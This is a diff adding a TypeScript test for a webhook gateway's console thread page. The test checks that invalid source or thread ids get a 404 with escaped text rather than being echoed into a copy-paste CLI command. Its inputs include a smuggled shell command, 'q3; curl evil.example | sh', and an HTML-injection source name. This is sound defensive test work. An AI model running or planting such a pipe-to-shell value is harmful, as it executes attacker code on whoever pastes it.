@@ -101,3 +101,32 @@ describe.skipIf(skipBrowser)('console thread page in Chromium', () => {
     expect(failedRequests).toEqual([]);
   });
 });
+
+describe('console thread page of a source or thread id the webhook never takes', () => {
+  const get = async (source: string, thread: string) => {
+    const response = await fetch(
+      `${world.gateway.url}/console/threads/${encodeURIComponent(source)}/${encodeURIComponent(thread)}`,
+    );
+    return { status: response.status, text: await response.text() };
+  };
+
+  it('is 404 saying so, not an empty thread "(yet)" with the URL’s text in a copy-paste command', async () => {
+    // A link an operator is sent: its text would have been printed in `npx webhook-gateway conversations list --thread …`.
+    const hostile = await get('testing_system', 'q3; curl evil.example | sh');
+    expect(hostile.status).toBe(404);
+    expect(hostile.text).toContain(
+      '&quot;q3; curl evil.example | sh&quot; is not a thread id (letters, digits, &#39;_&#39;, &#39;-&#39; and &#39;.&#39;, starting with a letter or digit, at most 128): no conversation is in it.',
+    );
+    expect(hostile.text).not.toContain('conversations list --thread');
+    expect(hostile.text).not.toContain('(yet)');
+    const tooLong = await get('testing_system', 'a'.repeat(129));
+    expect(tooLong.status).toBe(404);
+    const source = await get('<b>crm</b>', THREAD);
+    expect(source.status).toBe(404);
+    expect(source.text).toContain('&quot;&lt;b&gt;crm&lt;/b&gt;&quot; is not a source system');
+    // A thread that may still come (its ids valid) is the empty thread page, live.
+    const later = await get('Testing.System', 'later-thread');
+    expect(later.status).toBe(200);
+    expect(later.text).toContain('No conversation of testing_system is in thread later-thread (yet).');
+  });
+});
